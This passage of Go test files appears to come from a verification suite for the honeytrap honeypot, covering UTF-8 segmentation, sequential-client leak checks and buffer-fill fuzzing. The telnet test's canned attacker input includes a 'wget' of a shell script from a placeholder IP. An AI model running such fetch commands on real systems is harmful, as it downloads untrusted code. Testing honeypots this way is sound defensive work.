		return true
	}
	se.Conn.Send(st.Data)
	if st.Wait {
		se.Conn.WaitIdle(StepTimeout)
	}
	return true
}

func (se *Session) Done() bool { return se.next >= len(se.Script.Steps) }

// Finish applies the script's ending.
func (se *Session) Finish() {
	if se.Script.UDP {
		return
	}
	switch se.Script.End {
	case "reset":
		se.Conn.Reset()
	case "open":
	default:
		se.Conn.CloseWrite()
	}
}

// Events returns the captured events of this session's client address.
func (se *Session) Events() []lab.Ev {
	return lab.From(se.inst.Cap.Events(), se.Script.SrcIP.String(), se.Script.SrcPort)
}

// RunOne runs a script start to end and waits for the server to close (TCP).
func (in *Instance) RunOne(s *Script, closeTimeout time.Duration) (*Session, bool) {
	se := in.Open(s)
	for se.Next() {
	}
	se.Finish()
	if s.UDP || s.End == "open" {
		return se, true
	}
	return se, se.Conn.WaitClosed(closeTimeout)
}

// Canon renders events without volatile fields, for differential comparison.
func Canon(evs []lab.Ev, skip ...string) []string {
	out := make([]string, 0, len(evs))
	sk := append([]string{"token", "source-port", "source-ip"}, skip...)
	for _, e := range evs {
		out = append(out, e.Canon(sk...))
	}
	return out
}

// Volatile keys that legitimately differ between two runs of the same dialogue.
var SessionKeys = []string{"ftp.sessionid", "telnet.sessionid", "http.sessionid", "ssh.sessionid", "vnc.sessionid", "adb.sessionid"}

// Segmenter: turns a byte stream into steps.
func Segment(stream []byte, cuts []int) []Step {
	cs := append([]int(nil), cuts...)
	sort.Ints(cs)
	var out []Step
	last := 0
	for _, c := range cs {
		if c > last && c < len(stream) {
			out = append(out, Step{Data: stream[last:c]})
			last = c
		}
	}
	if last < len(stream) {
		out = append(out, Step{Data: stream[last:]})
	}
	return out
}

func Dribble(stream []byte) []Step {
	out := make([]Step, len(stream))
	for i := range stream {
		out[i] = Step{Data: stream[i : i+1]}
	}
	return out
}

func Describe(steps []Step) string {
	var b strings.Builder
	for i, s := range steps {
		if i > 0 {
			b.WriteString(" | ")
		}
		fmt.Fprintf(&b, "%q", trunc(string(s.Data), 60))
		if s.Wait {
			b.WriteString("(wait)")
		}
	}
	return b.String()
}

func trunc(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}
