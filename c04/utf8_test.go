package c04

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"

	"verif/svc"
	"verif/vlib"
)

// ---------------------------------------------------------------- non-ASCII text in the text protocols
//
// The shared grammars (svc.GenTelnet, GenFTP, ...) draw ASCII only, so a segment boundary
// can never fall INSIDE a character. The "-utf8" kinds below are the same protocols with
// 2-, 3- and 4-byte UTF-8 characters in the free-text positions (telnet user name /
// password / command line, ftp and smtp command arguments, memcached keys).

var utf8Kinds = []string{"telnet-utf8", "ftp-utf8", "memcached-utf8", "smtp-utf8"}

// tcpKinds: what TestTCP / TestEveryCut draw from (the 12 shared grammars + the utf8 kinds
// + the large-unit kinds of big_test.go).
var tcpKinds = append(append(append([]string{}, svc.TCPServices...), utf8Kinds...), bigKinds...)

func genTCP(t *rapid.T, kind string) svc.Dialog {
	switch kind {
	case "telnet-utf8":
		return genTelnetUTF8(t)
	case "ftp-utf8":
		return genFTPUTF8(t)
	case "memcached-utf8":
		return genMemcachedUTF8(t)
	case "smtp-utf8":
		return genSMTPUTF8(t)
	case "ldap-big", "ipp":
		d, _ := genTCPHot(t, kind)
		return d
	}
	return svc.GenTCP(t, kind)
}

// code points at the edges of every encoded length, and U+FFFD: valid UTF-8 that decodes to
// the decoder's own error value
var edgeRunes = []rune{
	0x80, 0xa0, 0xe9, 0xf6, 0x3a9, 0x7ff, // 2 bytes
	0x800, 0x20ac, 0x4e2d, 0xd7ff, 0xe000, 0xfffc, 0xfffd, 0xfffd, // 3 bytes
	0x10000, 0x1f600, 0x10ffff, // 4 bytes
}

const asciiText = "abcdefghijklmnopqrstuvwxyzABCXYZ0123456789 _-./:@"
const asciiToken = "abcdefghijklmnopqrstuvwxyz0123456789"

func nonASCII(t *rapid.T) rune {
	if rapid.Bool().Draw(t, "edge") {
		return rapid.SampledFrom(edgeRunes).Draw(t, "rune")
	}
	var r rune
	switch rapid.IntRange(2, 4).Draw(t, "enclen") {
	case 2:
		r = rune(rapid.IntRange(0x80, 0x7ff).Draw(t, "rune"))
	case 3:
		r = rune(rapid.IntRange(0x800, 0xffff).Draw(t, "rune"))
	default:
		r = rune(rapid.IntRange(0x10000, 0x10ffff).Draw(t, "rune"))
	}
	if !utf8.ValidRune(r) {
		r = 0x20ac // surrogates have no UTF-8 form
	}
	return r
}

// utext: 0..max characters, roughly every third one non-ASCII.
func utext(t *rapid.T, label string, ascii string, min, max int) string {
	n := rapid.IntRange(min, max).Draw(t, label+"-len")
	var b strings.Builder
	for i := 0; i < n; i++ {
		if rapid.IntRange(0, 2).Draw(t, "kind") == 0 {
			b.WriteRune(nonASCII(t))
		} else {
			b.WriteByte(ascii[rapid.IntRange(0, len(ascii)-1).Draw(t, "ascii")])
		}
	}
	return b.String()
}

func match(kv ...string) svc.Expect {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	return svc.Expect{Match: m}
}

func genTelnetUTF8(t *rapid.T) svc.Dialog {
	d := svc.Dialog{Service: "telnet"}
	nl := func() string { return rapid.SampledFrom([]string{"\r\n", "\n", "\r\n"}).Draw(t, "eol") }
	user := utext(t, "user", asciiToken, 0, 10)
	pass := utext(t, "pass", asciiText, 0, 12)
	d.Cmds = append(d.Cmds, svc.Cmd{Name: "user", Wire: []byte(user + nl())})
	d.Cmds = append(d.Cmds, svc.Cmd{Name: "pass", Wire: []byte(pass + nl()), Exp: []svc.Expect{match("type", "password-authentication", "telnet.username", user, "telnet.password", pass)}})
	n := rapid.IntRange(0, 5).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		line := utext(t, "line", asciiText, 0, 24)
		if rapid.IntRange(0, 3).Draw(t, "canned") == 0 {
			line = rapid.SampledFrom([]string{"echo 'café €5'", "cat /tmp/中文.txt", "ls -la", "wget http://203.0.113.1/\U0001f600.sh", ""}).Draw(t, "cannedline")
		}
		d.Cmds = append(d.Cmds, svc.Cmd{Name: "line", Wire: []byte(line + nl()), Exp: []svc.Expect{match("type", "session", "telnet.command", line)}})
	}
	return d
}

func genFTPUTF8(t *rapid.T) svc.Dialog {
	d := svc.Dialog{Service: "ftp"}
	add := func(line string, ends bool) {
		d.Cmds = append(d.Cmds, svc.Cmd{Name: strings.SplitN(line, " ", 2)[0], Wire: []byte(line + "\r\n"), Exp: []svc.Expect{match("ftp.command", line)}, Ends: ends})
	}
	add("USER "+utext(t, "user", asciiToken, 1, 10), false)
	add("PASS "+utext(t, "pass", asciiToken, 1, 10), false)
	n := rapid.IntRange(0, 5).Draw(t, "ncmd")
	long := false
	for i := 0; i < n; i++ {
		verb := rapid.SampledFrom([]string{"SIZE", "MDTM", "DELE", "CWD", "RNFR", "XYZZY", "NOOP", "HELP"}).Draw(t, "verb")
		if !long && rapid.IntRange(0, 5).Draw(t, "long") == 0 {
			// one command line around / beyond the control reader's 4096-byte buffer: still one
			// command, one event (seed C04-r5-1: ReadLine without isPrefix splits it)
			long = true
			n := rapid.SampledFrom([]int{4080, 4089, 4090, 4091, 4092, 4096, 4100, 5000, 8190, 8200, 9000}).Draw(t, "longlen")
			add(verb+" "+strings.Repeat(rapid.StringMatching("[a-z0-9]{1,7}").Draw(t, "unit"), n)[:n], false)
			continue
		}
		add(verb+" "+utext(t, "arg", asciiToken, 1, 14), false)
	}
	if rapid.Bool().Draw(t, "quit") {
		add("QUIT", true)
	}
	return d
}

func genMemcachedUTF8(t *rapid.T) svc.Dialog {
	d := svc.Dialog{Service: "memcached"}
	n := rapid.IntRange(1, 6).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		verb := rapid.SampledFrom([]string{"get", "gets", "delete", "incr", "touch"}).Draw(t, "verb")
		line := verb + " " + utext(t, "key", asciiToken, 1, 14)
		d.Cmds = append(d.Cmds, svc.Cmd{Name: verb, Wire: []byte(line + "\r\n"), Exp: []svc.Expect{match("type", "memcached-command", "memcached.command", line)}})
	}
	return d
}

func genSMTPUTF8(t *rapid.T) svc.Dialog {
	d := svc.Dialog{Service: "smtp"}
	line := func(s string, ends bool) {
		d.Cmds = append(d.Cmds, svc.Cmd{Name: strings.SplitN(s, " ", 2)[0], Wire: []byte(s + "\r\n"), Exp: []svc.Expect{match("type", "input", "smtp.line", s)}, Ends: ends})
	}
	line(rapid.SampledFrom([]string{"HELO ", "EHLO "}).Draw(t, "hello")+utext(t, "domain", asciiToken, 1, 10)+".example", false)
	n := rapid.IntRange(0, 5).Draw(t, "ncmd")
	for i := 0; i < n; i++ {
		verb := rapid.SampledFrom([]string{"VRFY", "EXPN", "NOOP", "HELP"}).Draw(t, "verb")
		line(verb+" "+utext(t, "arg", asciiToken, 1, 14), false)
	}
	if rapid.Bool().Draw(t, "quit") {
		line("QUIT", true)
	}
	return d
}

// inCharCuts: the cut points that fall inside a multi-byte character (the byte after the
// cut is a UTF-8 continuation byte).
func inCharCuts(stream []byte) []int {
	var out []int
	for p := 1; p < len(stream); p++ {
		if stream[p]&0xc0 == 0x80 {
			out = append(out, p)
		}
	}
	return out
}

// TestCutInChar: for dialogs with non-ASCII text, every segmentation that cuts a character:
// each interior cut point on its own, all of them at once, and each character on its own
// split at all its interior points.
func TestCutInChar(t *testing.T) {
	r := vlib.Open(prop)
	var dc dialogCase
	if vlib.ReplayCase("TestCutInChar", &dc) {
		if err := checkTCP(dc); err != nil {
			r.Violation(t, "TestCutInChar", dc, err.Error())
		}
		return
	}
	r.Rule("text protocols with 2-, 3- and 4-byte UTF-8 characters (code points at the edges of every encoded length + sampled) in user names / passwords / command lines / arguments (telnet, ftp, smtp, memcached): every cut point that falls inside a character - singly (exhaustive per dialog), all at once, and per character at all its interior points; same oracle as TestEveryCut")
	r.Rapid(t, "TestCutInChar", r.Pick(16, 80), func(rt *rapid.T) {
		kind := rapid.SampledFrom([]string{"telnet-utf8", "telnet-utf8", "ftp-utf8", "memcached-utf8", "smtp-utf8"}).Draw(rt, "kind")
		d := genTCP(rt, kind)
		stream := d.Stream()
		pts := inCharCuts(stream)
		if len(pts) == 0 {
			rt.Skip("no multi-byte character in the dialog")
		}
		in, err := svc.Shared()
		if err != nil {
			rt.Fatalf("infra: %v", err)
		}
		base, err := runTCP(in, d, "single", nil)
		if err == nil {
			err = checkEvents(d, base, "single write")
		}
		if err != nil {
			if strings.Contains(err.Error(), "inconclusive:") {
				rt.Skip("inconclusive")
			}
			r.Fail(rt, "TestCutInChar", toCase(d, "single", nil), "%v", err)
		}
		a := strings.Join(canon(d, base), "\n")
		var cutSets [][]int
		for _, p := range pts {
			cutSets = append(cutSets, []int{p})
		}
		cutSets = append(cutSets, pts)
		for i := 0; i < len(pts); {
			j := i
			for j+1 < len(pts) && pts[j+1] == pts[j]+1 {
				j++
			}
			if j > i {
				cutSets = append(cutSets, pts[i:j+1])
			}
			i = j + 1
		}
		for _, cuts := range cutSets {
			c := toCase(d, "cuts", cuts)
			r.Case("cut-in-char/"+kind, fmt.Sprint(vlib.JSON(c.Cmds), cuts), nil)
			got, err := runTCP(in, d, "cuts", cuts)
			if err == nil {
				err = checkEvents(d, got, fmt.Sprintf("cuts inside characters at %v", cuts))
			}
			if err == nil && strings.Join(canon(d, got), "\n") != a {
				err = fmt.Errorf("event list with cuts inside characters at %v differs from single-write delivery", cuts)
			}
			if err != nil {
				if strings.Contains(err.Error(), "inconclusive:") {
					r.Label("inconclusive/not-closed", 1)
					continue
				}
				r.Fail(rt, "TestCutInChar", c, "%v", err)
			}
		}
		r.Sample("cut-in-char/"+kind, map[string]interface{}{"dialog": d.Summary(), "stream": string(stream), "cuts_swept": len(cutSets)})
	})
}
