package c09

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/svc"
	"verif/vlib"
)

// Histories of many DIFFERENT sequential clients of one service ("after N sequential
// connections the process holds the same goroutines and descriptors as before them"):
// TestRelease repeats one script; here 20..60 generated scripts follow each other on one
// process and the resources are compared once, before and after. A leak that needs a
// particular client behaviour (and then only happens with some probability per connection)
// is much likelier to be among 40 different clients than in 14 repetitions of one.

type manyCase struct {
	Service string     `json:"service"`
	Conns   []connCase `json:"conns"`
}

func genMany(t *rapid.T, service string) manyCase {
	m := manyCase{Service: service}
	n := rapid.IntRange(20, 60).Draw(t, "clients")
	for i := 0; i < n; i++ {
		c := connCase{Service: service, Kind: rapid.SampledFrom([]string{"grammar", "grammar", "grammar", "mutated"}).Draw(t, "kind")}
		tr := svc.GenTraffic(t, service)
		if tr.SSH != nil {
			// the ssh client histories are TestRelease's; here only wire scripts
			tr = svc.Traffic{Units: svc.RawBytes(t, 256)}
			c.Kind = "raw"
		}
		c.UDP = tr.UDP
		units := tr.Units
		if c.Kind == "mutated" {
			units, c.Note = svc.Mutate(t, units)
		}
		c.Units = hexUnits(units)
		c.Seg = rapid.SampledFrom([]string{"units", "single", "single"}).Draw(t, "seg")
		c.End = rapid.SampledFrom([]string{"close", "close", "close", "reset"}).Draw(t, "end")
		c.LingerMs = rapid.SampledFrom([]int{0, 0, 60}).Draw(t, "linger")
		m.Conns = append(m.Conns, c)
	}
	return m
}

// runMany plays the clients one after the other; every TCP connection must be closed by
// the server before the next client starts (strictly sequential history).
func runMany(c *svc.Child, m manyCase) (notClosed []int, nontrivial int, err error) {
	for i, cc := range m.Conns {
		resp, e := c.Do(svc.Request{Op: "run", Scripts: []svc.WireScript{cc.wire()}, WaitMs: 20000}, 120*time.Second)
		if e != nil {
			return nil, nontrivial, e
		}
		for _, r := range resp.Conns {
			if !cc.UDP && !r.Closed {
				notClosed = append(notClosed, i)
			}
			if r.Events > 0 || r.Replies > 0 || r.Consumed > 0 {
				nontrivial++
			}
		}
	}
	return notClosed, nontrivial, nil
}

// checkMany runs on a fresh process: the verdict is a function of the history alone.
func checkMany(m manyCase) (int, error) {
	dropChild()
	c, err := getChild()
	if err != nil {
		return 0, fmt.Errorf("infra: %v", err)
	}
	defer dropChild()
	fail := func(e error) (int, error) {
		switch e.(type) {
		case *svc.ErrDead, *svc.ErrStuck:
			return 0, fmt.Errorf("inconclusive: %v", head(e.Error(), 200))
		}
		return 0, fmt.Errorf("infra: %v", e)
	}
	if len(m.Conns) == 0 {
		return 0, nil
	}
	// warm-up with the first two clients (lazy initialisation is not a per-connection cost)
	warm := manyCase{Service: m.Service, Conns: m.Conns[:min(2, len(m.Conns))]}
	if _, _, e := runMany(c, warm); e != nil {
		return fail(e)
	}
	a, e := settle(c, usage{}, false)
	if e != nil {
		return fail(e)
	}
	notClosed, nt, e := runMany(c, m)
	if e != nil {
		return fail(e)
	}
	if len(notClosed) > 0 {
		return nt, fmt.Errorf("client %d of the history was not closed by the server within 20 s after it %s", notClosed[0], endWord(m.Conns[notClosed[0]].End))
	}
	b, e := settle(c, a, true)
	if e != nil {
		return fail(e)
	}
	if excess(a, b) == 0 {
		return nt, nil
	}
	// something is still held 14 s after the last client left. Bounded waits inside a service
	// may be longer than that (idle timeout 30 s): look again after two idle periods, and see
	// whether the same history played once more adds to it.
	time.Sleep(62 * time.Second)
	b2, e := measure(c)
	if e != nil {
		return fail(e)
	}
	if excess(a, b2) == 0 {
		return nt, nil
	}
	if _, _, e := runMany(c, m); e != nil {
		return fail(e)
	}
	time.Sleep(62 * time.Second)
	c2, e := measure(c)
	if e != nil {
		return fail(e)
	}
	if excess(a, c2) > excess(a, b2) {
		return nt, fmt.Errorf("resources are still held two idle periods after %d sequential %s clients left, and grow when the same clients come again: after the first round %s; after the second round %s", len(m.Conns), m.Service, above(a, b2), above(a, c2))
	}
	return nt, nil
}

func TestManyClients(t *testing.T) {
	r := vlib.Open(prop)
	defer dropChild()
	var mc manyCase
	if vlib.ReplayCase("TestManyClients", &mc) {
		if _, err := checkMany(mc); verdict(err) {
			r.Violation(t, "TestManyClients", mc, err.Error())
		}
		return
	}
	r.Rule("per service one history of 20..60 different generated clients (grammar 3:1 mutated; per-unit or single-write delivery; a third of the clients read the replies before leaving; close 3:1 reset) played strictly one after the other on a fresh lab child; oracle = every client closed by the server within 20 s, and goroutines in honeytrap frames / descriptors / listening sockets after the history equal those before it (judged 14 s after the last client; a difference is looked at again after two idle periods and must grow with a second round of the same history to count); services are spread over the shards; non-trivial = at least half of the clients got past the handler's first read; distinct by history")
	shard, shards := r.Shard()
	var mine []string
	for i, s := range svc.AllServices {
		if i%shards == shard {
			mine = append(mine, s)
		}
	}
	if len(mine) == 0 {
		return
	}
	rounds := r.Pick(1, 6)
	// a failing history takes minutes to judge (two idle periods, twice): it is reported as
	// found, not shrunk
	if os.Getenv("VERIF_SHRINKTIME") == "" {
		os.Setenv("VERIF_SHRINKTIME", "1ms")
		defer os.Unsetenv("VERIF_SHRINKTIME")
	}
	for _, service := range mine {
		service := service
		r.Rapid(t, "TestManyClients", rounds, func(rt *rapid.T) {
			m := genMany(rt, service)
			nt, err := checkMany(m)
			fp := ""
			if nt*2 >= len(m.Conns) {
				fp = vlib.JSON(m)
			}
			r.Case("many/"+service, fp, func() interface{} {
				return map[string]interface{}{"service": service, "clients": len(m.Conns), "past_first_read": nt}
			})
			if err != nil {
				if strings.HasPrefix(err.Error(), "infra:") {
					rt.Fatalf("%v", err)
				}
				if strings.HasPrefix(err.Error(), "inconclusive:") {
					r.Label("inconclusive-process-died-or-hung(see C01)", 1)
					return
				}
				r.Fail(rt, "TestManyClients", m, "%v", err)
			}
		})
	}
}
