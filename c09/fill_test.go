package c09

import (
	"bytes"
	"fmt"
	"os"
	"regexp"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/svc"
	"verif/vlib"
)

// Fixed-size input buffers: for every TCP service, a run of one byte value - alone or
// opening an escape / option / quote sequence that never ends - with a length around the
// usual buffer sizes is inserted in front of a unit of a generated dialogue. The product
// (lead x fill byte x length x position) is swept in concurrent batches of one service;
// a batch that leaves connections open, goroutines behind or the process busy is taken
// apart, and each suspect is judged alone by TestRelease's oracle on a fresh process.

var (
	fillLeads = [][]byte{nil, {0x1b}, {0x1b, '['}, {0xff, 0xfa}, {'"'}, {'<'},
		// inside an open bracketed paste (seed C09-r5-1: the full-buffer guard skipped there)
		[]byte("\x1b[200~"), []byte("\x1b[200~\x1b")}
	fillBytes = []byte{0x00, ' ', '0', ';', 0x1b, 0x7f, 0xff, 'A', '\r', ','}
	fillLens  = []int{255, 256, 257, 1024, 4097, 65536}
)

func fillCases(t *rapid.T, service string) []connCase {
	tr := svc.GenTraffic(t, service)
	if tr.SSH != nil || tr.UDP {
		tr = svc.Traffic{Units: [][]byte{nil}}
	}
	units := tr.Units
	if len(units) == 0 {
		units = [][]byte{nil}
	}
	pos := []int{0}
	if len(units) > 1 {
		pos = append(pos, rapid.IntRange(1, len(units)-1).Draw(t, "unit"))
	}
	var out []connCase
	for _, p := range pos {
		for _, lead := range fillLeads {
			for _, fb := range fillBytes {
				for _, n := range fillLens {
					run := append(append([]byte(nil), lead...), bytes.Repeat([]byte{fb}, n)...)
					u := make([][]byte, 0, len(units)+1)
					u = append(u, units[:p]...)
					u = append(u, run)
					u = append(u, units[p:]...)
					out = append(out, connCase{Service: service, Units: hexUnits(u), Seg: "units", End: "close", Kind: "buffer-fill",
						Note: fmt.Sprintf("lead=%x fill=%02x len=%d before unit %d", lead, fb, n, p)})
				}
			}
		}
	}
	// announced lengths and counts: every decimal number of the dialogue (the first four)
	// inflated to the sizes a client can announce and then not deliver
	var stream []byte
	for _, u := range units {
		stream = append(stream, u...)
	}
	locs := asciiNumber.FindAllIndex(stream, 4)
	for k, l := range locs {
		for _, v := range []string{"65536", "1048576", "2147483647", "4294967296", "9223372036854775807"} {
			m := append(append(append([]byte(nil), stream[:l[0]]...), v...), stream[l[1]:]...)
			out = append(out, connCase{Service: service, Units: hexUnits([][]byte{m}), Seg: "single", End: "close", Kind: "buffer-fill",
				Note: fmt.Sprintf("number %d of the dialogue announced as %s", k, v)})
		}
	}
	return out
}

var asciiNumber = regexp.MustCompile(`[0-9]+`)

// fillBatch plays the cases concurrently on a fresh child and says whether anything is
// left afterwards (open connections, goroutines, CPU).
func fillBatch(cases []connCase) (suspicious bool, err error) {
	c, err := svc.StartChild(nil)
	if err != nil {
		return false, fmt.Errorf("infra: %v", err)
	}
	defer c.Stop()
	// warm-up: one plain connection
	warm := connCase{Service: cases[0].Service, Seg: "units", End: "close"}
	if _, e := c.Do(svc.Request{Op: "run", Scripts: []svc.WireScript{warm.wire()}, WaitMs: 20000}, 60*time.Second); e != nil {
		return false, fmt.Errorf("inconclusive: %v", head(e.Error(), 200))
	}
	a, e := measure(c)
	if e != nil {
		return false, fmt.Errorf("inconclusive: %v", head(e.Error(), 200))
	}
	req := svc.Request{Op: "run", WaitMs: 20000}
	for _, cc := range cases {
		req.Scripts = append(req.Scripts, cc.wire())
	}
	dbg := func(why string) {
		if os.Getenv("C09_DEBUG") != "" {
			fmt.Fprintf(os.Stderr, "FILLBATCH %s suspicious: %s\n", cases[0].Service, why)
		}
	}
	resp, e := c.Do(req, 75*time.Second)
	if e != nil {
		dbg("run: " + head(e.Error(), 300))
		return true, nil // died or hung: which case it was is found by the single runs
	}
	for i, cr := range resp.Conns {
		if !cr.Closed {
			dbg("not closed: " + cases[i].Note)
			return true, nil
		}
	}
	b, e := settle(c, a, true)
	if e != nil {
		dbg("settle: " + head(e.Error(), 300))
		return true, nil
	}
	if excess(a, b) > 0 {
		dbg("excess: " + above(a, b))
		return true, nil
	}
	u0, e0 := measure(c)
	time.Sleep(150 * time.Millisecond)
	u1, e1 := measure(c)
	if e0 != nil || e1 != nil {
		return true, nil
	}
	return u1.cpu-u0.cpu > 60, nil
}

func TestBufferFill(t *testing.T) {
	r := vlib.Open(prop)
	if vlib.Replaying() {
		return // reported and replayed as TestRelease cases
	}
	r.Rule("buffer-fill sweep: per TCP service, {no lead, ESC, ESC[, IAC SB, quote, <, paste-start ESC[200~, paste-start + ESC} x 10 fill bytes x run lengths {255, 256, 257, 1024, 4097, 65536} inserted as a unit of its own at the start and before one drawn unit of a generated dialogue; plus every decimal number of the dialogue (first four) announced as 2^16, 2^20, 2^31-1, 2^32, 2^63-1 and the client leaving; all cases of one service run concurrently on a fresh child; a batch that leaves open connections, goroutines in honeytrap frames or a busy process is bisected and every remaining suspect is judged alone by TestRelease's oracle; services are spread over the shards; distinct by script")
	shard, shards := r.Shard()
	for i, service := range svc.AllServices {
		if i%shards != shard || !svc.PortOf(service).TCP {
			continue
		}
		service := service
		r.Rapid(t, "TestRelease", 1, func(rt *rapid.T) {
			cases := fillCases(rt, service)
			for _, cc := range cases {
				cc := cc
				r.Case("fill/"+service, service+" "+cc.Note+" "+fmt.Sprint(len(cc.Units)), func() interface{} {
					return map[string]interface{}{"service": service, "note": cc.Note, "units": len(cc.Units)}
				})
			}
			// the whole product at once; a batch that leaves something behind is scanned case
			// by case with the cheap measurement of TestSpin (closed within 3 s, idle CPU)
			var suspects []connCase
			bad, err := fillBatch(cases)
			if err != nil {
				r.Label("fill/inconclusive-batches", 1)
				return
			}
			if !bad {
				return
			}
			r.Label("fill/batches-scanned-case-by-case", 1)
			budget := time.Now().Add(90 * time.Second)
			var c *svc.Child
			defer func() {
				if c != nil {
					c.Stop()
				}
			}()
			for _, cc := range cases {
				if len(suspects) >= 1 || time.Now().After(budget) {
					break
				}
				if c == nil || !c.Alive() {
					if c != nil {
						c.Stop()
					}
					if c, err = svc.StartChild(nil); err != nil {
						rt.Fatalf("infra: %v", err)
					}
				}
				resp, e := c.Do(svc.Request{Op: "run", Scripts: []svc.WireScript{cc.wire()}, WaitMs: 3000}, 120*time.Second)
				sus := e != nil
				if e == nil {
					for _, cr := range resp.Conns {
						if !cr.Closed {
							sus = true
						}
					}
					m0, e0 := c.Do(svc.Request{Op: "mem"}, 30*time.Second)
					time.Sleep(60 * time.Millisecond)
					m1, e1 := c.Do(svc.Request{Op: "mem"}, 30*time.Second)
					if e0 != nil || e1 != nil || m1.Stats.CPUMs-m0.Stats.CPUMs > 40 {
						sus = true
					}
				}
				if sus {
					suspects = append(suspects, cc)
					c.Stop()
					c = nil
				}
			}
			for _, cc := range suspects {
				r.Label("fill/suspects-judged-alone", 1)
				dropChild()
				history = nil
				if _, err := releaseOnce(cc); verdict(err) {
					dropChild()
					r.Fail(rt, "TestRelease", cc, "%v", err)
				}
				dropChild()
			}
		})
	}
}
