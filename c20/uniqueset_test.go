//go:build verif && linux
// +build verif,linux

package c20

import (
	"fmt"
	"strings"
	"testing"

	"github.com/honeytrap/honeytrap/listener/canary"

	"verif/vlib"
)

// ---------------------------------------------------------------------------------
// UniqueSet against an ordered-set model

type item struct{ key int }

type setOp struct {
	Op  string `json:"op"` // add | remove | count | each | each-remove-all | each-remove
	Key int    `json:"key,omitempty"`
}

type setCase struct {
	Ops []setOp `json:"ops"`
}

var allOps = func() []setOp {
	var out []setOp
	for k := 0; k < 3; k++ {
		out = append(out, setOp{"add", k})
	}
	for k := 0; k < 3; k++ {
		out = append(out, setOp{"remove", k})
	}
	out = append(out, setOp{"count", 0}, setOp{"each", 0}, setOp{"each-remove-all", 0})
	for k := 0; k < 3; k++ {
		out = append(out, setOp{"each-remove", k})
	}
	return out
}()

// checkSet runs the sequence on a UniqueSet and on the model: a list of keys in insertion
// order.
func checkSet(c setCase) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
	}()
	us := canary.NewUniqueSet(func(a, b interface{}) bool { return a.(*item).key == b.(*item).key })
	var model []int          // keys in insertion order
	canon := map[int]*item{} // the stored item per key
	pos := func(k int) int {
		for i, m := range model {
			if m == k {
				return i
			}
		}
		return -1
	}
	for n, op := range c.Ops {
		at := fmt.Sprintf("op %d %s(%d)", n, op.Op, op.Key)
		switch op.Op {
		case "add":
			it := &item{key: op.Key}
			got := us.Add(it)
			if pos(op.Key) >= 0 {
				if got != interface{}(canon[op.Key]) {
					return fmt.Errorf("%s: key already in the set, Add must return the stored element", at)
				}
			} else {
				if got != interface{}(it) {
					return fmt.Errorf("%s: new key, Add must return the added element", at)
				}
				model = append(model, op.Key)
				canon[op.Key] = it
			}
		case "remove":
			if it, ok := canon[op.Key]; ok {
				us.Remove(it)
				model = append(model[:pos(op.Key)], model[pos(op.Key)+1:]...)
				delete(canon, op.Key)
			} else {
				us.Remove(&item{key: op.Key}) // not an element: no effect
			}
		case "count":
		case "each", "each-remove-all", "each-remove":
			var visited []int
			var idx []int
			us.Each(func(i int, v interface{}) {
				if v == nil {
					visited = append(visited, -1)
					idx = append(idx, i)
					return
				}
				it := v.(*item)
				visited = append(visited, it.key)
				idx = append(idx, i)
				if op.Op == "each-remove-all" || (op.Op == "each-remove" && it.key == op.Key) {
					// the detector removes the element it is visiting
					us.Remove(it)
				}
			})
			if fmt.Sprint(visited) != fmt.Sprint(model) {
				return fmt.Errorf("%s: Each visited keys %v, the set holds %v in insertion order (each element must be visited exactly once)", at, visited, model)
			}
			if op.Op == "each" {
				for i, x := range idx {
					if x != i {
						return fmt.Errorf("%s: Each passed indices %v, want 0..%d", at, idx, len(model)-1)
					}
				}
			}
			switch op.Op {
			case "each-remove-all":
				model = nil
				canon = map[int]*item{}
			case "each-remove":
				if p := pos(op.Key); p >= 0 {
					model = append(model[:p], model[p+1:]...)
					delete(canon, op.Key)
				}
			}
		}
		if us.Count() != len(model) {
			return fmt.Errorf("%s: Count() = %d, the set holds %d elements %v", at, us.Count(), len(model), model)
		}
	}
	// final contents
	var final []int
	us.Each(func(i int, v interface{}) {
		if v == nil {
			final = append(final, -1)
		} else {
			final = append(final, v.(*item).key)
		}
	})
	if fmt.Sprint(final) != fmt.Sprint(model) {
		return fmt.Errorf("after the sequence the set holds %v, the model %v", final, model)
	}
	return nil
}

func TestUniqueSet(t *testing.T) {
	r := vlib.Open(prop)
	var c setCase
	if vlib.ReplayCase("TestUniqueSet", &c) {
		if err := checkSet(c); err != nil {
			r.Violation(t, "TestUniqueSet", c, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	r.Rule(ruleText)
	si, sn := r.Shard()
	var n, nontrivial int64
	var firstFail *setCase
	var firstMsg string
	var failures int64
	seq := make([]setOp, 0, 6)
	var idx int64
	var rec func(depth int)
	rec = func(depth int) {
		if depth > 0 {
			idx++
			if idx%int64(sn) == int64(si) {
				n++
				adds := 0
				iter := false
				for _, o := range seq {
					if o.Op == "add" {
						adds++
					}
					if strings.HasPrefix(o.Op, "each") {
						iter = true
					}
				}
				if adds >= 2 && iter {
					nontrivial++
				}
				c := setCase{Ops: append([]setOp(nil), seq...)}
				if err := checkSet(c); err != nil {
					failures++
					// shortest first: the enumeration is depth-first, so compare lengths
					if firstFail == nil || len(c.Ops) < len(firstFail.Ops) {
						firstFail, firstMsg = &c, err.Error()
					}
				}
			}
		}
		if depth == 6 {
			return
		}
		for _, o := range allOps {
			seq = append(seq, o)
			rec(depth + 1)
			seq = seq[:len(seq)-1]
		}
	}
	rec(0)
	r.Bulk("uniqueset/sequences<=6", n, nontrivial)
	r.Sample("uniqueset/sequences<=6", setCase{Ops: []setOp{{"add", 0}, {"add", 1}, {"add", 2}, {"each-remove-all", 0}, {"count", 0}}})
	if firstFail != nil {
		r.Note("UniqueSet: %d of %d sequences disagree with the ordered-set model", failures, n)
		r.Violation(t, "TestUniqueSet", *firstFail, firstMsg)
		return
	}
	r.Exhaustive("all operation sequences of length <= 6 over 3 keys on UniqueSet (12 operations: Add/Remove per key, Count, Each, Each removing every visited element, Each removing one key when visited)")
}
