// Package svc holds what the service-level properties (C01, C03, C04, C09, C10, C12)
// share: the configuration of a server with every director-less service, protocol
